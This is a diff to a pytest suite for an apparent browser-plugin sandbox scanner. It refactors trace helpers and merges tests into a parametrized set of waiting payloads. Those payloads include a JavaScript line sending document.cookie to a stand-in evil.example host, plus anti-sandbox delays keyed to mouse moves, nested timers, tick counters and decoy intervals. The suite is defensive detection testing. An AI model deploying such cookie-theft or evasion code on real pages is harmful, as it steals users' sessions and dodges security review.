@@ -67,6 +67,26 @@ def _rules(findings: list[Finding], role: str = "user") -> set[str]:
     return {f.rule_id for f in findings if f.message.endswith(f"(as {role})")}
 
 
+def _events(result: Any, role: str = "user") -> list[dict[str, Any]]:
+    events: list[dict[str, Any]] = json.loads(result.artifacts[f"trace-{role}.json"])["events"]
+    return events
+
+
+def _probes(result: Any) -> list[str]:
+    """URLs a test plugin reported its findings about the sandbox to."""
+    return [str(e["url"]) for e in _events(result) if "probe.evil.example" in str(e.get("url", ""))]
+
+
+def _polls(result: Any) -> int:
+    return sum(
+        1 for e in _events(result) if e["type"] == "request" and "/messages" in e.get("url", "")
+    )
+
+
+# A payload's act: the session cookie to an undeclared host.
+STEAL = "fetch('https://x.evil.example/?c=' + encodeURIComponent(document.cookie));"
+
+
 def test_delayed_cookie_theft_fires_under_the_fast_forwarded_clock(
     pool: BrowserPool, tmp_path: Path
 ) -> None:
@@ -176,13 +196,9 @@ def test_a_poll_every_few_seconds_is_not_a_flood(
     findings, result = _run(pool, _plugin(tmp_path, "var n = 0; " + POLLS[poll]))
     assert result.status is StageStatus.OK
     assert [f for f in findings if f.severity >= Severity.MEDIUM] == []
-    trace = json.loads(result.artifacts["trace-user.json"])
-    assert not trace.get("dropped")
-    polls = [
-        e for e in trace["events"] if e["type"] == "request" and "/messages" in e.get("url", "")
-    ]
+    assert not json.loads(result.artifacts["trace-user.json"]).get("dropped")
     # Every jump still fires it (1 s, 10 s, 1 min at full rate; the long ones up to the cap).
-    assert 100 < len(polls) < 600
+    assert 100 < _polls(result) < 600
 
 
 def test_the_clock_reads_nothing_the_page_redefined(pool: BrowserPool, tmp_path: Path) -> None:
@@ -200,8 +216,7 @@ def test_the_clock_reads_nothing_the_page_redefined(pool: BrowserPool, tmp_path:
     )
     findings, result = _run(pool, _plugin(tmp_path, body))
     assert "runtime-exfiltration" in _rules(findings)
-    trace = json.loads(result.artifacts["trace-user.json"])
-    assert not [e for e in trace["events"] if "probe.evil.example" in str(e.get("url", ""))]
+    assert _probes(result) == []
 
 
 def test_the_host_leaves_no_trace_a_plugin_could_test(pool: BrowserPool, tmp_path: Path) -> None:
@@ -218,22 +233,37 @@ def test_the_host_leaves_no_trace_a_plugin_could_test(pool: BrowserPool, tmp_pat
     )
     _, result = _run(pool, _plugin(tmp_path, body))
     assert result.status is StageStatus.OK
-    probes = [
-        str(e.get("url"))
-        for e in json.loads(result.artifacts["trace-user.json"])["events"]
-        if "probe.evil.example" in str(e.get("url", ""))
-    ]
-    assert probes == ["https://probe.evil.example/saw/"]
+    assert _probes(result) == ["https://probe.evil.example/saw/"]
 
 
-def test_a_payload_waiting_for_a_moving_mouse_fires(pool: BrowserPool, tmp_path: Path) -> None:
-    """Anti-sandbox code waits for a person: several trusted mouse moves, then it acts."""
-    body = (
-        "var moves = 0; document.addEventListener('mousemove', function (e) {"
-        " if (e.isTrusted && ++moves === 8)"
-        " fetch('https://m.evil.example/?c=' + encodeURIComponent(document.cookie)); });"
-    )
-    findings, _ = _run(pool, _plugin(tmp_path, body))
+WAITING = {
+    # Anti-sandbox code waits for a person: several trusted mouse moves, then it acts.
+    "eight-mouse-moves": "var moves = 0; document.addEventListener('mousemove', function (e) {"
+    " if (e.isTrusted && ++moves === 8) " + STEAL + " });",
+    # Each timer fires at its own due time: one set 1 h 12 min in, for a minute later,
+    # fires within the six-hour jump as it would on a visitor's page.
+    "timer-set-by-a-timer": "setTimeout(function () { setTimeout(function () { " + STEAL + " },"
+    " 61000); }, 4300 * 1000);",
+    # Ticks that do nothing we record are not capped: a payload acting after 500 ticks of
+    # a one-second interval (eight minutes on the page) fires within the jumps...
+    "silent-tick-counter": "var n = 0; setInterval(function () { n += 1; if (n === 500) "
+    + STEAL
+    + " }, 1000);",
+    # ...even beside a 1 ms interval doing nothing, which takes its share, not all.
+    "counter-beside-a-busy-decoy": "setInterval(function () {}, 1); var n = 0;"
+    " setInterval(function () { n += 1; if (n === 500) " + STEAL + " }, 1000);",
+    # A long timeout set from a 1 ms decoy's tick is a line of its own: the decoy using up
+    # its bounds does not push the payload past every jump.
+    "armed-by-a-busy-ticker": "var armed = false, t0 = Date.now(); setInterval(function () {"
+    " if (!armed && Date.now() - t0 > 5000) { armed = true; setTimeout(function () { "
+    + STEAL
+    + " }, 30 * 60000); } }, 1);",
+}
+
+
+@pytest.mark.parametrize("wait", sorted(WAITING))
+def test_a_waiting_payload_still_fires(pool: BrowserPool, tmp_path: Path, wait: str) -> None:
+    findings, _ = _run(pool, _plugin(tmp_path, WAITING[wait]))
     assert "runtime-exfiltration" in _rules(findings)
 
 
@@ -250,9 +280,7 @@ def test_no_frame_of_ours_gives_its_function_or_receiver_to_mount(
         " navigator.sendBeacon('https://probe.evil.example/frames/' + got.length);"
     )
     _, result = _run(pool, _plugin(tmp_path, body))
-    events = json.loads(result.artifacts["trace-user.json"])["events"]
-    probes = [e["url"] for e in events if "probe.evil.example" in str(e.get("url", ""))]
-    assert probes == ["https://probe.evil.example/frames/0"]
+    assert _probes(result) == ["https://probe.evil.example/frames/0"]
 
 
 def test_fields_are_filled_whatever_the_page_did_to_string_and_arrays(
@@ -276,32 +304,7 @@ def test_fields_are_filled_whatever_the_page_did_to_string_and_arrays(
 def test_a_token_read_after_unmount_is_counted(pool: BrowserPool, tmp_path: Path) -> None:
     tail = "return function () { setTimeout(function () { ctx.auth.getToken(); }, 30000); };"
     _, result = _run(pool, _plugin(tmp_path, tail))
-    events = json.loads(result.artifacts["trace-user.json"])["events"]
-    assert [e["count"] for e in events if e["type"] == "token-read"] == [1]
-
-
-def test_a_timer_set_by_a_timer_fires_within_the_jump(pool: BrowserPool, tmp_path: Path) -> None:
-    """Each timer fires at its own due time: one set 1 h 12 min in, for a minute later,
-    fires within the six-hour jump as it would on a visitor's page."""
-    body = (
-        "setTimeout(function () { setTimeout(function () {"
-        " fetch('https://n.evil.example/?c=' + encodeURIComponent(document.cookie)); }, 61000); },"
-        " 4300 * 1000);"
-    )
-    findings, _ = _run(pool, _plugin(tmp_path, body))
-    assert "runtime-exfiltration" in _rules(findings)
-
-
-def test_a_busy_decoy_timer_does_not_starve_a_counter(pool: BrowserPool, tmp_path: Path) -> None:
-    """A 1 ms interval doing nothing takes its share of a jump, not all of it: a payload
-    counting the ticks of a one-second interval still reaches 500."""
-    body = (
-        "setInterval(function () {}, 1); var n = 0; setInterval(function () { n += 1;"
-        " if (n === 500) fetch('https://t.evil.example/?c=' + encodeURIComponent(document.cookie)); },"
-        " 1000);"
-    )
-    findings, _ = _run(pool, _plugin(tmp_path, body))
-    assert "runtime-exfiltration" in _rules(findings)
+    assert [e["count"] for e in _events(result) if e["type"] == "token-read"] == [1]
 
 
 def test_a_chain_of_timeouts_is_capped_like_an_interval(pool: BrowserPool, tmp_path: Path) -> None:
@@ -313,9 +316,7 @@ def test_a_chain_of_timeouts_is_capped_like_an_interval(pool: BrowserPool, tmp_p
     )
     findings, result = _run(pool, _plugin(tmp_path, body))
     assert [f for f in findings if f.severity >= Severity.MEDIUM] == []
-    events = json.loads(result.artifacts["trace-user.json"])["events"]
-    polls = [e for e in events if e["type"] == "request" and "/messages" in e.get("url", "")]
-    assert 100 < len(polls) < 600
+    assert 100 < _polls(result) < 600
 
 
 def test_a_light_ticker_is_not_a_burn_and_a_heavy_one_is(pool: BrowserPool, tmp_path: Path) -> None:
@@ -335,20 +336,6 @@ def test_a_light_ticker_is_not_a_burn_and_a_heavy_one_is(pool: BrowserPool, tmp_
     assert "runtime-cpu-burn" in _rules(heavy)
 
 
-def test_a_payload_set_ahead_by_a_busy_ticker_still_fires(
-    pool: BrowserPool, tmp_path: Path
-) -> None:
-    """A long timeout set from a 1 ms decoy's tick is a line of its own: the decoy using up
-    its bounds does not push the payload past every jump."""
-    body = (
-        "var armed = false, t0 = Date.now(); setInterval(function () {"
-        " if (!armed && Date.now() - t0 > 5000) { armed = true; setTimeout(function () {"
-        " fetch('https://d.evil.example/?c=' + encodeURIComponent(document.cookie)); }, 30 * 60000); } }, 1);"
-    )
-    findings, _ = _run(pool, _plugin(tmp_path, body))
-    assert "runtime-exfiltration" in _rules(findings)
-
-
 def test_a_miner_in_a_zero_delay_chain_is_a_burn(pool: BrowserPool, tmp_path: Path) -> None:
     """Links of a zero-delay chain stand for no simulated time: their work is not credited
     to the clock, and hashing in them counts as the page's own CPU."""
@@ -359,17 +346,6 @@ def test_a_miner_in_a_zero_delay_chain_is_a_burn(pool: BrowserPool, tmp_path: Pa
     )
     findings, _ = _run(pool, _plugin(tmp_path, body))
     assert "runtime-cpu-burn" in _rules(findings)
-
-
-def test_a_payload_counting_interval_ticks_still_fires(pool: BrowserPool, tmp_path: Path) -> None:
-    """Ticks that do nothing we record are not capped: a payload that acts after 500
-    ticks of a one-second interval (eight minutes on the page) fires within the jumps."""
-    body = (
-        "var n = 0; setInterval(function () { n += 1; if (n === 500)"
-        " fetch('https://t.evil.example/?c=' + encodeURIComponent(document.cookie)); }, 1000);"
-    )
-    findings, _ = _run(pool, _plugin(tmp_path, body))
-    assert "runtime-exfiltration" in _rules(findings)
 
 
 def test_a_busy_page_is_measured_by_its_own_main_thread(pool: BrowserPool, tmp_path: Path) -> None:
@@ -395,7 +371,7 @@ def test_a_worklet_counts_as_code_off_the_page_thread(pool: BrowserPool, tmp_pat
         "CSS.paintWorklet.addModule(src); container.textContent = 'ok';"
     )
     _, result = _run(pool, _plugin(tmp_path, body))
-    events = json.loads(result.artifacts["trace-user.json"])["events"]
+    events = _events(result)
     assert any(e.get("type") == "worker" and e.get("kind") == "Worklet" for e in events)
 
 
